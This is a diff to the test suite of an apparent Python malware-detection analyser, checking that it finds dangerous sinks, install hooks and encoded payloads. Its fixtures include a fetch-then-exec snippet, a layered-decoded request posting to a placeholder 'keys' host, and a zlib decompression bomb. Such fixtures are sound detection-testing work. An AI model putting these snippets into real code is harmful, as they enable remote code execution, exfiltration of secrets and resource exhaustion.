@@ -60,11 +60,16 @@ describe('extractPythonFacts', () => {
       ['import os\nopen(os.getenv("X"), "wb").write(b"")', 'file-write', 'open'],
     ];
     for (const [text, kind, spelling] of cases)
-      expect((await sinksOf(text)).map((sink) => [sink.kind, sink.spelling]), text).toContainEqual([kind, spelling]);
+      expect(
+        (await sinksOf(text)).map((sink) => [sink.kind, sink.spelling]),
+        text,
+      ).toContainEqual([kind, spelling]);
   });
 
   it('stays silent where the call is safe', async () => {
-    expect(await sinksOf('import yaml\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.safe_load(f)\n__import__("os")')).toEqual([]);
+    expect(
+      await sinksOf('import yaml\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.safe_load(f)\n__import__("os")'),
+    ).toEqual([]);
     expect(await sinksOf('import re, os\nre.compile("exec(")\nmodel.eval()\ndf.eval("a+b")')).toEqual([]);
     expect((await sinksOf('import requests\nopen("a.txt").read()')).map((sink) => sink.kind)).toEqual(['file-read']);
   });
@@ -75,25 +80,56 @@ describe('extractPythonFacts', () => {
     );
     expect(facts.sinks[0]?.conditions).toEqual(['os.name == "nt"', 'catch']);
     expect(facts.functions[facts.sinks[0]?.fn ?? 0]?.name).toBe('main');
-    expect(facts.calls).toContainEqual({ fn: 0, at: expect.any(Number), how: 'call', target: { k: 'function', fn: 1 }, args: [] });
+    expect(facts.calls).toContainEqual({
+      fn: 0,
+      at: expect.any(Number),
+      how: 'call',
+      target: { k: 'function', fn: 1 },
+      args: [],
+    });
   });
 
   it('keeps the value that flows into exec', async () => {
-    const [sink] = (await sinksOf('import requests\nr = requests.get(base + "/p")\nexec(r.text)')).filter((one) => one.kind === 'eval');
-    expect(sink?.args[0]).toMatchObject({ k: 'get', key: 'text', of: { k: 'call', callee: { k: 'get', key: 'get', of: { k: 'import', spec: 'requests' } } } });
+    const [sink] = (await sinksOf('import requests\nr = requests.get(base + "/p")\nexec(r.text)')).filter(
+      (one) => one.kind === 'eval',
+    );
+    expect(sink?.args[0]).toMatchObject({
+      k: 'get',
+      key: 'text',
+      of: { k: 'call', callee: { k: 'get', key: 'get', of: { k: 'import', spec: 'requests' } } },
+    });
   });
 
   it('reads an environment value in the shape that JavaScript has', async () => {
     const [sink] = await sinksOf('import os\nexec(os.environ["AUTH"])');
-    expect(sink?.args[0]).toMatchObject({ k: 'get', key: 'AUTH', of: { k: 'get', key: 'env', of: { k: 'global', name: 'process' } } });
+    expect(sink?.args[0]).toMatchObject({
+      k: 'get',
+      key: 'AUTH',
+      of: { k: 'get', key: 'env', of: { k: 'global', name: 'process' } },
+    });
   });
 
   it('calls the methods of a class where one is made, thread targets and decorated functions', async () => {
     const { calls, functions } = await factsOf(
       'import subprocess, threading\nclass A:\n  def __init__(self): pass\n  def go(self): pass\ndef f(): pass\n@app.route("/")\ndef h(): pass\nA()\nthreading.Thread(target=f).start()\n',
     );
-    const said = calls.flatMap((call) => (call.target.k === 'function' ? [`${call.how} ${functions[call.target.fn]?.name}`] : []));
+    const said = calls.flatMap((call) =>
+      call.target.k === 'function' ? [`${call.how} ${functions[call.target.fn]?.name}`] : [],
+    );
     expect(said.sort()).toEqual(['call __init__', 'callback f', 'callback go', 'handler h']);
+  });
+});
+
+describe('setup.py', () => {
+  it('calls the commands that it hands to setup', async () => {
+    const { calls, functions, sinks } = await factsOf(
+      'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass Post(install):\n  def run(self):\n    install.run(self)\n    os.system("true")\nsetup(name="x", cmdclass={"install": Post})\n',
+    );
+    const run = functions.findIndex((one) => one.name === 'run');
+    expect(sinks.map((sink) => sink.fn)).toEqual([run]);
+    expect(calls.filter((call) => call.how === 'callback').map((call) => call.target)).toEqual([
+      { k: 'function', fn: run },
+    ]);
   });
 });
 
@@ -118,7 +154,9 @@ describe('constants in Python', () => {
     });
 
   it('peels what is decoded and executed layer by layer', async () => {
-    const facts = await factsOf(wrap('import requests\nurl = "https://peeled-not-real.example/keys"\nrequests.post(url, data=1)\n', 12));
+    const facts = await factsOf(
+      wrap('import requests\nurl = "https://peeled-not-real.example/keys"\nrequests.post(url, data=1)\n', 12),
+    );
     expect(facts.computed.some((one) => one.value.includes('peeled-not-real.example'))).toBe(true);
     expect(facts.sinks.map((sink) => sink.kind)).toEqual(['eval', 'network']);
     expect(constant(facts.sinks[1])).toBe('https://peeled-not-real.example/keys');
@@ -137,7 +175,10 @@ describe('hostile Python', () => {
     ['a name that is itself', 'exec(a)\na = a + b\nb = a'],
     ['functions that call each other', 'f = lambda x: g(x)\ng = lambda x: f(x)\nexec(f(1))'],
     ['doubling', `a = "x" * 100000\n${Array.from({ length: 60 }, () => 'a = a + a').join('\n')}\nexec(a)`],
-    ['a bomb', `import zlib\nexec(zlib.decompress(bytes.fromhex("${deflateSync(Buffer.alloc(30_000_000)).toString('hex')}")))`],
+    [
+      'a bomb',
+      `import zlib\nexec(zlib.decompress(bytes.fromhex("${deflateSync(Buffer.alloc(30_000_000)).toString('hex')}")))`,
+    ],
     ['no Python at all', '\u0000exec(\uffff{{{;;;"""'],
   ];
   for (const [name, text] of inputs)
